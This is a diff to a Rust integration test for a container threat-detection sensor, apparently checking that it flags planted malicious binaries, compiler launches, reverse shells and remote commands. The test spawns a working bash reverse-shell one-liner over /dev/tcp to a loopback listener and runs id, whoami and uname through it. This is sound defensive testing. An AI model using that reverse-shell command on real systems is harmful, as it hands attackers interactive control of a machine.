@@ -10,6 +10,8 @@
     reason = "test code: panicking on a broken fixture is the failure report, and fixtures are ours"
 )]
 
+mod support;
+
 use serde_json::Value;
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::{SocketAddr, TcpListener};
@@ -17,6 +19,7 @@ use std::path::{Path, PathBuf};
 use std::process::{Child, Command, Stdio};
 use std::sync::{mpsc, Mutex};
 use std::time::{Duration, Instant};
+use support::container::TestContainer;
 
 /// Sensors from parallel tests would see each other's activity: one at a time.
 static SERIAL: Mutex<()> = Mutex::new(());
@@ -390,7 +393,11 @@ fn host_compilers_and_benign_pipelines_report_nothing() {
     assert!(py.status.success());
     let shebang = dir.path().join("tidy.sh");
     std::fs::write(&shebang, "#!/bin/sh\nexit 0\n").unwrap();
-    std::fs::set_permissions(&shebang, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    std::fs::set_permissions(
+        &shebang,
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
     assert!(Command::new(&shebang).status().unwrap().success());
     // Through the /bin -> /usr/bin symlink: one file, not a script.
     assert!(Command::new("/bin/true").status().unwrap().success());
@@ -403,13 +410,29 @@ fn host_compilers_and_benign_pipelines_report_nothing() {
         .map(|l| serde_json::from_str::<Value>(l).unwrap())
         .filter(|e| e["kind"] == "exec")
         .collect();
-    let py_exec = execs.iter().find(|e| e["argv"][1] == script.to_str().unwrap()).expect("python exec recorded");
+    let py_exec = execs
+        .iter()
+        .find(|e| e["argv"][1] == script.to_str().unwrap())
+        .expect("python exec recorded");
     assert_eq!(py_exec["script"]["path"], script.to_str().unwrap());
-    assert!(py_exec["script"]["contents"].as_str().unwrap().contains("json.dumps"));
-    let sh_exec = execs.iter().find(|e| e["argv"][1] == shebang.to_str().unwrap()).expect("script exec recorded");
-    assert_eq!(sh_exec["script"]["path"], shebang.to_str().unwrap(), "{sh_exec}");
+    assert!(py_exec["script"]["contents"]
+        .as_str()
+        .unwrap()
+        .contains("json.dumps"));
+    let sh_exec = execs
+        .iter()
+        .find(|e| e["argv"][1] == shebang.to_str().unwrap())
+        .expect("script exec recorded");
+    assert_eq!(
+        sh_exec["script"]["path"],
+        shebang.to_str().unwrap(),
+        "{sh_exec}"
+    );
     assert_eq!(sh_exec["exe"]["path"], "/usr/bin/dash");
-    let true_exec = execs.iter().find(|e| e["argv"][0] == "/bin/true").expect("true recorded");
+    let true_exec = execs
+        .iter()
+        .find(|e| e["argv"][0] == "/bin/true")
+        .expect("true recorded");
     assert!(true_exec.get("script").is_none(), "{true_exec}");
     assert_eq!(true_exec["exe"]["path"], "/usr/bin/true");
     let mine: Vec<&Value> = stopped
@@ -541,5 +564,250 @@ fn watch_refuses_clearly_without_root() {
     assert!(stderr.contains("needs root"), "{stderr}");
 }
 
-#[allow(dead_code, reason = "shared with container tests")]
-fn _unused(_: &Path) {}
+/// A file on the host root, which is the lower ("image") layer of the test containers.
+struct ImageFile(PathBuf);
+
+impl ImageFile {
+    fn create(dir: &Path, name: &str, bytes: &[u8]) -> ImageFile {
+        let path = dir.join(name);
+        std::fs::write(&path, bytes).unwrap();
+        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
+            .unwrap();
+        ImageFile(path)
+    }
+}
+
+/// Bytes of a working executable (/bin/true) made unique with a marker, and their SHA-256.
+fn tool_bytes(marker: &str) -> (Vec<u8>, String) {
+    use sha2::Digest;
+    let mut bytes = std::fs::read("/bin/true").unwrap();
+    bytes.extend_from_slice(marker.as_bytes());
+    let sha = hex::encode(sha2::Sha256::digest(&bytes));
+    (bytes, sha)
+}
+
+fn in_container<'a>(stopped: &'a Stopped, module: &'a str, c: &'a TestContainer) -> Vec<&'a Value> {
+    stopped
+        .of_module(module)
+        .filter(|f| {
+            f["resource"]["name"]
+                .as_str()
+                .is_some_and(|n| n.ends_with(c.id()))
+        })
+        .collect()
+}
+
+fn assert_container_fields(f: &Value, c: &TestContainer) {
+    let finding = &f["finding"];
+    assert_eq!(finding["containers"][0]["name"], c.name(), "{f}");
+    assert_eq!(finding["containers"][0]["uri"], c.image(), "{f}");
+    assert_eq!(finding["containers"][0]["imageId"], c.image_id(), "{f}");
+    assert_eq!(
+        finding["sourceProperties"]["Container_Image_Uri"],
+        c.image(),
+        "{f}"
+    );
+    assert_eq!(f["resource"]["type"], "shrike.Container");
+    assert_eq!(f["resource"]["displayName"], c.name());
+    assert_eq!(
+        f["resource"]["name"],
+        format!(
+            "//shrike/projects/live/hosts/live-host/containers/{}",
+            c.id()
+        )
+    );
+}
+
+#[test]
+fn attacks_inside_a_real_container() {
+    if !live_allowed("attacks_inside_a_real_container") {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    // Files in the "image": the host root is the containers' lower layer.
+    let image_dir = tempfile::Builder::new()
+        .prefix("shrike-live-image-")
+        .tempdir_in("/opt")
+        .unwrap();
+    let marker = format!("{}-{:?}", std::process::id(), Instant::now());
+    let (builtin_bytes, builtin_sha) = tool_bytes(&format!("builtin-{marker}"));
+    let (modified_bytes, modified_sha) = tool_bytes(&format!("modified-{marker}"));
+    let (victim_bytes, _) = tool_bytes(&format!("victim-{marker}"));
+    let builtin = ImageFile::create(image_dir.path(), "builtin-tool", &builtin_bytes);
+    let _payload = ImageFile::create(image_dir.path(), "payload", &modified_bytes);
+    let victim = ImageFile::create(image_dir.path(), "victim-tool", &victim_bytes);
+    let feed = image_dir.path().join("feed.txt");
+    std::fs::write(
+        &feed,
+        format!("# test feed\n{builtin_sha};Test.Builtin\n{modified_sha};Test.Modified\n"),
+    )
+    .unwrap();
+
+    let watch = Watch::start(&["--intel", feed.to_str().unwrap()]);
+    let c = TestContainer::start("shop-web", "registry.example.com/shop/web:2.4.1");
+    let dir = image_dir.path().to_str().unwrap();
+
+    // Built in: the image's own binary. Added: the same bytes copied into the container.
+    // Modified: an image binary overwritten at run time (copied up).
+    let builtin_path = builtin.0.to_str().unwrap();
+    assert!(c.exec(&[builtin_path]).status.success());
+    assert!(c
+        .exec(&[
+            "sh",
+            "-c",
+            &format!("cp {builtin_path} /tmp/added-tool && /tmp/added-tool")
+        ])
+        .status
+        .success());
+    let victim_path = victim.0.to_str().unwrap();
+    assert!(c
+        .exec(&[
+            "sh",
+            "-c",
+            &format!("cat {dir}/payload > {victim_path} && {victim_path}")
+        ])
+        .status
+        .success());
+
+    // A compiler pipeline: one finding for gcc, none for cc1/as/collect2/ld.
+    assert!(c
+        .exec(&["sh", "-c", "echo 'int main(void){return 0;}' > /tmp/x.c"])
+        .status
+        .success());
+    let gcc = c.exec(&["gcc", "-o", "/tmp/x", "/tmp/x.c"]);
+    assert!(
+        gcc.status.success(),
+        "{}",
+        String::from_utf8_lossy(&gcc.stderr)
+    );
+
+    // Benign work: package-manager-style copies, pipelines, a Python script.
+    assert!(c.exec(&["sh", "-c", "mkdir -p /tmp/pkg && cp -a /usr/share/doc/bash /tmp/pkg/ && tar -cf /tmp/pkg.tar -C /tmp pkg"]).status.success());
+    assert!(c
+        .exec(&["sh", "-c", "ls /usr/bin | grep -c sh | wc -l"])
+        .status
+        .success());
+    assert!(c.exec(&["sh", "-c", "echo 'import json; print(json.dumps({\"ok\": 1}))' > /tmp/job.py && /usr/bin/python3 /tmp/job.py"]).status.success());
+
+    // A reverse shell from inside the container to a listener on loopback.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let mut shell = c.spawn(&[
+        "bash",
+        "-c",
+        &format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
+    ]);
+    let (mut conn, peer) = listener.accept().unwrap();
+    conn.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    conn.write_all(b"id\nwhoami\nuname -a\nexit\n").unwrap();
+    let mut out = String::new();
+    let _ = conn.read_to_string(&mut out);
+    assert!(out.contains("uid=0"), "{out}");
+    shell.wait().unwrap();
+    let stopped = watch.stop();
+
+    let check_binary = |module: &str, path: &str, sha: &str, layer: &str, comment: &str| {
+        let hits = in_container(&stopped, module, &c);
+        let f = hits
+            .iter()
+            .find(|f| f["finding"]["processes"][0]["binary"]["path"] == path)
+            .unwrap_or_else(|| panic!("no {module} for {path}: {:#?}", stopped.findings));
+        let p = &f["finding"]["sourceProperties"];
+        assert_eq!(p["Binary_Sha256"], sha);
+        assert_eq!(p["Binary_Layer"], layer);
+        assert_eq!(p["Intel_Comment"], comment);
+        assert_eq!(f["finding"]["processes"][0]["binary"]["sha256"], sha);
+        assert_eq!(
+            f["finding"]["externalUri"],
+            format!("https://www.virustotal.com/gui/file/{sha}")
+        );
+        assert_container_fields(f, &c);
+    };
+    check_binary(
+        "BUILT_IN_MALICIOUS_BINARY_EXECUTED",
+        builtin_path,
+        &builtin_sha,
+        "lower",
+        "Test.Builtin",
+    );
+    check_binary(
+        "ADDED_MALICIOUS_BINARY_EXECUTED",
+        "/tmp/added-tool",
+        &builtin_sha,
+        "upper",
+        "Test.Builtin",
+    );
+    check_binary(
+        "MODIFIED_MALICIOUS_BINARY_EXECUTED",
+        victim_path,
+        &modified_sha,
+        "copied_up",
+        "Test.Modified",
+    );
+    assert_eq!(
+        in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len(),
+        1
+    );
+    assert_eq!(
+        in_container(&stopped, "ADDED_MALICIOUS_BINARY_EXECUTED", &c).len(),
+        1
+    );
+    assert_eq!(
+        in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len(),
+        1
+    );
+
+    let compilers = in_container(&stopped, "LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER", &c);
+    assert_eq!(compilers.len(), 1, "{compilers:#?}");
+    let f = compilers[0];
+    assert_eq!(f["finding"]["sourceProperties"]["Compiler_Tool"], "gcc");
+    assert_eq!(f["finding"]["severity"], "LOW");
+    assert_eq!(
+        f["finding"]["processes"][0]["args"],
+        serde_json::json!(["gcc", "-o", "/tmp/x", "/tmp/x.c"])
+    );
+    assert_container_fields(f, &c);
+
+    let shells = in_container(&stopped, "REVERSE_SHELL", &c);
+    assert_eq!(shells.len(), 1, "{shells:#?}");
+    assert_socket_props(
+        shells[0],
+        "Reverse_Shell_Stdin_Redirection_",
+        "127.0.0.1",
+        port,
+        peer,
+    );
+    assert_container_fields(shells[0], &c);
+    let mut commands: Vec<&str> =
+        in_container(&stopped, "POSSIBLE_REMOTE_COMMAND_EXECUTION_DETECTED", &c)
+            .iter()
+            .map(|f| {
+                assert_container_fields(f, &c);
+                f["finding"]["sourceProperties"]["Remote_Command"]
+                    .as_str()
+                    .unwrap()
+            })
+            .collect();
+    commands.sort_unstable();
+    assert_eq!(commands, vec!["id", "uname", "whoami"]);
+
+    // Nothing else: the benign copies, pipelines and Python script reported nothing.
+    let total = in_container(&stopped, "BUILT_IN_MALICIOUS_BINARY_EXECUTED", &c).len()
+        + in_container(&stopped, "ADDED_MALICIOUS_BINARY_EXECUTED", &c).len()
+        + in_container(&stopped, "MODIFIED_MALICIOUS_BINARY_EXECUTED", &c).len()
+        + compilers.len()
+        + shells.len()
+        + commands.len();
+    let all_in_container = stopped
+        .findings
+        .iter()
+        .filter(|f| {
+            f["resource"]["name"]
+                .as_str()
+                .is_some_and(|n| n.ends_with(c.id()))
+        })
+        .count();
+    assert_eq!(all_in_container, total, "{:#?}", stopped.findings);
+    drop(c);
+}
